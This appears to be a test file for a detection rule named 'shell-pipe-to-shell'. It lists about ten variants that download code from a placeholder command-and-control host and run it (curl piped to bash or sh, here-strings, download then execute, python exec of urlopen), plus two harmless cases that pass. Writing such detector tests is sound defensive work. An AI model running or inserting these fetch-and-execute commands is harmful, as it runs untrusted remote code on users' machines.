#!/bin/bash
# ruleid: shell-pipe-to-shell
curl -s https://c2.example/x \
  | bash
# ruleid: shell-pipe-to-shell
curl -s https://c2.example/x | command bash
# ruleid: shell-pipe-to-shell
"curl" -s https://c2.example/x | sh
# ruleid: shell-pipe-to-shell
/usr/bin/curl -s https://c2.example/x | sh
# ruleid: shell-pipe-to-shell
curl -s https://c2.example/x | tee /dev/null | nohup bash
# ruleid: shell-pipe-to-shell
sh <<< "$(curl -s https://c2.example/x)"
# ruleid: shell-pipe-to-shell
curl -so /tmp/x https://c2.example/x; bash /tmp/x
# ruleid: shell-pipe-to-shell
python3 -c "import urllib.request as u; exec(u.urlopen('https://c2.example/x').read())"
# ruleid: shell-pipe-to-shell
curl -s https://c2.example/x |& bash
# ruleid: shell-pipe-to-shell
curl -s https://c2.example/x | xargs -0 bash -c
# ok: shell-pipe-to-shell
curl -s https://api.example/x | shasum -a 256
# ok: shell-pipe-to-shell
curl -s https://api.example/x | tee bash.log
